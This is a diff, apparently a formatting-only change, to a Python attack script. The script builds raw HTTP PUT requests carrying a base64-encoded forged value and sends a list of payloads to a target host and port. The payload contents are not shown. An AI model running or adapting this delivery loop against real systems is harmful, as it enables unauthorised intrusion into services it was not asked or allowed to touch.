@@ -25,7 +25,11 @@ encoded = base64.b64encode(forged)
 
 
 def put(path):
-    return b"PUT %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (path, len(encoded), encoded)
+    return b"PUT %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (
+        path,
+        len(encoded),
+        encoded,
+    )
 
 
 PAYLOADS = [
@@ -58,7 +62,10 @@ def listening():
 def attack(target):
     address, port = target.split(":")
     for payload in PAYLOADS:
-        with suppress(OSError), socket.create_connection((address, int(port)), timeout=1) as connection:
+        with (
+            suppress(OSError),
+            socket.create_connection((address, int(port)), timeout=1) as connection,
+        ):
             connection.settimeout(0.1)
             connection.sendall(payload)
             connection.recv(1000)
